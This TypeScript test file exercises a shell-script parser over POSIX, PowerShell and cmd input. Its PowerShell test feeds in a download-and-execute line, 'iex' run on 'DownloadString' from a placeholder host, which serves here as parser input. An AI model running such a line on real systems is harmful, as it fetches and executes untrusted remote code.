import assert from 'node:assert/strict';
import { test } from 'node:test';
import { shifted } from '../../src/parse/place';
import { type Command, parseArgv, parseScript, type ShellKind } from '../../src/parse/shell';

const variables: Readonly<Record<string, string>> = { V: '1.2', LIST: 'a b' };
const options = { place: shifted(0), lookup: (name: string) => variables[name] };
const read = (text: string, shell: ShellKind = 'posix') => parseScript(text, shell, options);
const line = (command: Command) => command.words.map(({ text }) => text).join(' ');
const lines = (text: string, shell?: ShellKind) => read(text, shell).commands.map(line);

test('lists, pipes and what joins them', () => {
  const { commands, complete } = read('a && b | c; d || e & f');
  assert.deepEqual(
    commands.map(({ name, joinedBy, conditional }) => [name, joinedBy, conditional]),
    [
      ['a', '', false],
      ['b', '&&', false],
      ['c', '|', false],
      ['d', ';', false],
      ['e', '||', true],
      ['f', '&', false],
    ],
  );
  assert.equal(commands[1]?.pipedTo[0]?.name, 'c');
  assert.equal(commands[2]?.pipedFrom[0]?.name, 'b');
  assert.equal(complete, true);
});

test('quotes, escapes and variables', () => {
  const words = read(`x 'a b' "c $V" d\\ e $LIST $UNKNOWN "$LIST" $'q\\n' \${V:-z} \${U:-z}`).commands[0]?.words ?? [];
  assert.deepEqual(
    words.map(({ value }) => value),
    ['x', 'a b', 'c 1.2', 'd e', 'a', 'b', undefined, 'a b', 'q\n', '1.2', undefined],
  );
});

test('assignments count from the next command on', () => {
  const { commands } = read('A=1; B=2 x $A $B; export C=3; y $C');
  assert.equal(commands[1]?.words[1]?.value, '1');
  assert.equal(commands[1]?.words[2]?.value, undefined);
  assert.equal(commands[3]?.words[1]?.value, '3');
});

test('subshells, groups, loops, conditions and functions', () => {
  assert.deepEqual(
    lines('(a; b) && { c; } ; if d; then e; else f; fi; for x in 1 2; do g $x; done; while h; do i; done'),
    ['a', 'b', 'c', 'd', 'e', 'f', 'g $x', 'h', 'i'],
  );
  assert.deepEqual(lines('case $x in a|b) c;; *) d ;; esac; f() { e; }; f'), ['c', 'd', 'e', 'f']);
});

test('programs that run programs', () => {
  const { commands } = read('sudo -u app env A=1 nice -n 5 sh -c "apt-get update && x" | tee y');
  assert.deepEqual(
    commands.map(({ name, nesting }) => [name, nesting]),
    [
      ['sudo', undefined],
      ['env', 'wrapper'],
      ['nice', 'wrapper'],
      ['sh', 'wrapper'],
      ['apt-get', 'script'],
      ['x', 'script'],
      ['tee', undefined],
    ],
  );
  assert.deepEqual(lines('find / -exec chmod a-s {} \\; ; xargs -n 1 rm < l; eval "a b"').slice(1), [
    'chmod a-s {}',
    'xargs -n 1 rm',
    'rm',
    'eval a b',
    'a b',
  ]);
});

test('substitutions belong to the command they stand in', () => {
  const { commands } = read('echo "$(a `b`)" <(c)');
  assert.deepEqual(
    commands.map(({ name, parent, nesting }) => [name, parent?.name, nesting]),
    [
      ['b', 'a', 'substitution'],
      ['a', 'echo', 'substitution'],
      ['c', 'echo', 'process-substitution'],
      ['echo', undefined, undefined],
    ],
  );
});

test('here-documents inside a script', () => {
  const { commands } = read('cat <<EOF > f\n$(x)\nEOF\nbash <<-Q\n\tmake\n\tQ\nz');
  assert.deepEqual(
    commands.map(({ name }) => name),
    ['cat', 'bash', 'make', 'z'],
  );
  assert.equal(commands[0]?.redirects[0]?.body?.text, '$(x)\n');
});

test('a comment ends at the line, not inside a word', () => {
  assert.deepEqual(lines('a#b # c && d\ne'), ['a#b', 'e']);
});

test('places in nested scripts', () => {
  const text = `sh -c 'a && bc d'`;
  const found = read(text).commands.find(({ name }) => name === 'bc');
  assert.ok(found);
  assert.equal(text.slice(found.span.start, found.span.end), 'bc d');
});

test('what is not understood says so', () => {
  for (const text of ['a "b', "a 'b", 'a $(b', '( a', 'if a', 'a ) b', '`a', 'case x y', '[[ a']) {
    assert.equal(read(text).complete, false, text);
  }
});

test('PowerShell', () => {
  const { commands } = read(
    "$u = 'https://x.example/a'; Invoke-WebRequest -Uri $u -OutFile a.zip; iex ((New-Object Net.WebClient).DownloadString($u)); if ($x) { Remove-Item a }",
    'powershell',
  );
  assert.ok(
    commands.some(({ name, words }) => name === 'invoke-webrequest' && words[2]?.value === 'https://x.example/a'),
  );
  assert.ok(commands.some(({ name, nesting }) => name === 'remove-item' && nesting === 'script'));
  assert.ok(commands.some(({ name }) => name === 'iex'));
});

test('cmd, and PowerShell started by it', () => {
  const { commands } = read('net user a "b c" & powershell -NoProfile -Command "Set-X 1; Set-Y 2" && dir', 'cmd');
  assert.deepEqual(
    commands.map(({ name }) => name),
    ['net', 'powershell', 'set-x', 'set-y', 'dir'],
  );
  assert.equal(commands[0]?.words[3]?.value, 'b c');
});

test('a program given as words', () => {
  const word = (text: string, start: number) => ({
    span: { start, end: start + text.length },
    raw: text,
    text,
    value: text,
    quoted: false,
  });
  const { commands } = parseArgv([word('/bin/sh', 0), word('-c', 8), word('pip install x', 11)], options);
  assert.deepEqual(
    commands.map(({ name, span }) => [name, span.start]),
    [
      ['sh', 0],
      ['pip', 11],
    ],
  );
});
